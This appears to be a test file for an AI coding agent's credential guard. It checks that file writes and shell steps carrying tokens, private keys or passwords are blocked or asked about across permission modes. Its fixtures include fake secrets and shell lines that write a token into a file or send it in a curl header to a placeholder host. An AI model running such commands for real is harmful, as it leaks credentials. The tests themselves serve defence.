// What looks like a key on its way into a file, in whole sessions with real files, tools and programs.
import { afterEach, expect, test } from 'bun:test';
import { existsSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { AnsweredLine } from '../../src/core/policy/policy.ts';
import { NO_RULES, parseRules } from '../../src/core/policy/rules.ts';
import type { Ask, AskAnswer } from '../../src/protocol/ask.ts';
import type { PermissionMode } from '../../src/protocol/message.ts';
import { type GuardedPlace, guardedPlace, NO, YES } from '../support/guarded-session.ts';
import type { ScriptEntry } from '../support/script.ts';

const GITHUB = `ghp_${'A1b2'.repeat(9)}`;
const ARMOURED = `-----BEGIN PRIVATE KEY-----\n${'MIIEvQIBADANBgkqhkiG9w0BAQEFAASC'}\n-----END PRIVATE KEY-----\n`;
const RARE = 'q7Rk2vLx9TzW4mBn';
const LIKELY = `db:\n  password: ${RARE}\n`;

let places: GuardedPlace[] = [];
afterEach(() => {
  for (const place of places) place.close();
  places = [];
});
function open(): GuardedPlace {
  const place = guardedPlace();
  places.push(place);
  return place;
}

const call = (tool: string, input: Record<string, unknown>): ScriptEntry => [
  { tool, input: { why: 'to see', ...input } as never },
];
const write = (path: string, contents: string): ScriptEntry => call('write_file', { path, contents });
const shell = (command: string): ScriptEntry => call('run_shell', { command });
const permissions = (asks: readonly Ask[]) => asks.flatMap(({ body }) => (body.kind === 'permission' ? [body] : []));
const session = (): AskAnswer => ({ kind: 'choice', choice: 'session' });
const inMode = (mode: PermissionMode) => ({ mode, bypassOffered: mode === 'bypass' });

test('CRED-1: a key that says what it is is written in no mode, by no tool and no line, whatever rules allow', async () => {
  const everything = parseRules({ allow: ['Edit', 'Bash'] }, '--settings').rules;
  for (const mode of ['ask', 'edits', 'bypass'] as const) {
    const place = open();
    place.write('a.txt', 'one\n');
    const run = await place.run(
      [
        write('b.txt', `token = ${GITHUB}\n`),
        write('b.txt', ARMOURED),
        write('b.txt', 'DB=postgres://app:tr0ub4dor@db.host/x\n'),
        call('edit_file', { path: 'a.txt', edits: [{ old_text: 'one', new_text: GITHUB }] }),
        shell(`echo ${GITHUB} > b.txt`),
        shell(`touch ran; curl -H 'Authorization: token ${GITHUB}' http://x`),
        shell(`cat > b.txt <<'E'\n${ARMOURED}E`),
      ],
      { ...inMode(mode), rules: mode === 'edits' ? everything : NO_RULES },
    );
    expect(run.asks).toEqual([]);
    expect(run.told).toHaveLength(7);
    for (const told of run.told) {
      expect(told).toContain('declared-credential');
      expect(told).not.toContain('A1b2');
    }
    expect(run.told[0]).toContain('a GitHub token');
    expect(run.told[1]).toContain('a private key');
    expect(run.told[2]).toContain('a password in an address');
    expect(place.read('a.txt')).toBe('one\n');
    for (const name of ['b.txt', 'ran']) expect(existsSync(join(place.folder, name))).toBe(false);
    expect(JSON.stringify(run.audit)).not.toContain('A1b2');
  }
});

test('PR-2, CRED-1: accepting edits answers ordinary writes only: what may be a credential is asked about', async () => {
  const place = open();
  place.write('a.txt', 'one\n');
  const run = await place.run(
    [
      write('b.txt', 'plain\n'),
      write('c.yml', LIKELY),
      call('edit_file', { path: 'a.txt', edits: [{ old_text: 'one', new_text: `apiKey: "${RARE}"` }] }),
      write('key', `${RARE}${RARE}\n`),
      shell('touch d'),
    ],
    { ...inMode('edits'), rules: parseRules({ allow: ['Edit'] }, '--settings').rules, answer: () => NO },
  );
  expect(place.read('b.txt')).toBe('plain\n');
  expect(permissions(run.asks).map(({ effects }) => effects[0]!.kind)).toEqual(['write', 'write', 'write', 'run']);
  for (const [index, body] of permissions(run.asks).slice(0, 3).entries()) {
    expect(body.choices.map(({ key }) => key)).toEqual(['y', 'a', 'n']);
    expect(body.rows.map(({ shown }) => shown.text).join('\n')).toContain(
      index === 2 ? 'holds nothing but one value that looks like a key' : 'holds a value named like a password or key',
    );
  }
  for (const name of ['c.yml', 'key']) expect(existsSync(join(place.folder, name))).toBe(false);
  expect(place.read('a.txt')).toBe('one\n');
  expect(JSON.stringify(run.audit) + run.told.join()).not.toContain(RARE);
});

test('CRED-1: a line that gives one is asked about whatever allows it, and never remembered as it stands', async () => {
  const place = open();
  const rules = parseRules({ allow: ['Bash'] }, '--settings').rules;
  const remembered = store();
  const permission = { project: NO_RULES, earlierAnswers: [], remembered, commandOutput: 'class', notes: [] } as const;
  const steps = [shell('touch a'), shell(`touch API_TOKEN=${RARE}`), shell(`touch API_TOKEN=${RARE}`)];
  const run = await place.run(steps, { rules, permissions: permission, answer: session });
  expect(existsSync(join(place.folder, 'a'))).toBe(true);
  expect(permissions(run.asks).map(({ choices }) => choices.map(({ key }) => key))).toEqual([['y', 'a', 'n']]);
  expect(run.told[2]).toContain('exit 0');
  const bypass = await place.run([shell(`touch API_TOKEN=${RARE}`), write('x.yml', LIKELY)], inMode('bypass'));
  expect(bypass.asks).toEqual([]);
  expect(place.read('x.yml')).toBe(LIKELY);
});

test('CRED-1: answered for the session it holds for that folder; remembered, for later sessions; nobody asked is no', async () => {
  const place = open();
  place.write('sub/x', '');
  const remembered = store();
  const permission = { project: NO_RULES, earlierAnswers: [], remembered, commandOutput: 'class', notes: [] } as const;
  const steps = [write('a.yml', LIKELY), write('b.yml', `${LIKELY}#\n`), write('sub/c.yml', LIKELY)];
  const run = await place.run(steps, { ...inMode('edits'), permissions: permission, answer: session });
  expect(permissions(run.asks)).toHaveLength(2);
  const [first] = permissions(run.asks);
  expect(first!.rows.map(({ shown }) => shown.text)).toContain(
    `[a] covers what looks like a password or key in files of ${place.folder} for this session, [r] for later sessions too`,
  );
  expect(remembered.folders).toEqual([]);

  const asked = await place.run([write('d.yml', LIKELY)], {
    ...inMode('edits'),
    permissions: permission,
    answer: () => ({ kind: 'choice', choice: 'remember' }),
  });
  expect(permissions(asked.asks)).toHaveLength(1);
  expect(remembered.folders).toEqual([place.folder]);
  const later = await place.run([write('e.yml', LIKELY)], {
    ...inMode('edits'),
    permissions: { ...permission, earlierKeyFolders: remembered.folders },
  });
  expect(later.asks).toEqual([]);
  expect(place.read('e.yml')).toBe(LIKELY);

  const alone = await place.run([write('f.yml', LIKELY)], { ...inMode('edits'), canAsk: false });
  expect(alone.told.at(-1)).toContain('cannot-ask');
  expect(existsSync(join(place.folder, 'f.yml'))).toBe(false);
});

test('CRED-2: what a trusted file held before is not blamed, and what is kept aside is never looked through', async () => {
  const place = open();
  place.write('a.env', `token = ${GITHUB}\n${LIKELY}`);
  place.write('.note', '');
  const page = join(place.outside, 'page');
  writeFileSync(page, `${GITHUB}\n${LIKELY}`);
  const run = await place.run(
    [
      call('edit_file', { path: 'a.env', edits: [{ old_text: 'token', new_text: 'github_token' }] }),
      write('a.env', `${LIKELY}moved = ${GITHUB}\n`),
      shell(`cat ${page}`),
      call('write_file', { path: 'b.txt', contents_ref: 'ref:1' }),
    ],
    { ...inMode('edits'), answer: () => YES },
  );
  expect(place.read('a.env')).toBe(`${LIKELY}moved = ${GITHUB}\n`);
  expect(run.told[3]).toStartWith('Created');
  expect(JSON.stringify(run.asks)).not.toContain('credential');
  expect(JSON.stringify(run.audit)).not.toContain('credential');
  // The same over a file nobody vouched for: what it held says nothing.
  const untrusted = open();
  untrusted.write('a.env', `token = ${GITHUB}\n`);
  const refused = await untrusted.run([write('a.env', `moved = ${GITHUB}\n`)], { ...inMode('edits'), trust: 'no' });
  expect(refused.told[0]).toContain('declared-credential');
});

/** Answers kept beside the session. */
function store() {
  const folders: string[] = [];
  const lines: AnsweredLine[] = [];
  return {
    folders,
    load: async () => lines,
    loadKeyFolders: async () => folders,
    loadTools: async () => [],
    add: async (more: readonly AnsweredLine[], moreFolders: readonly string[] = []) => {
      lines.push(...more);
      folders.push(...moreFolders);
      return true;
    },
  };
}
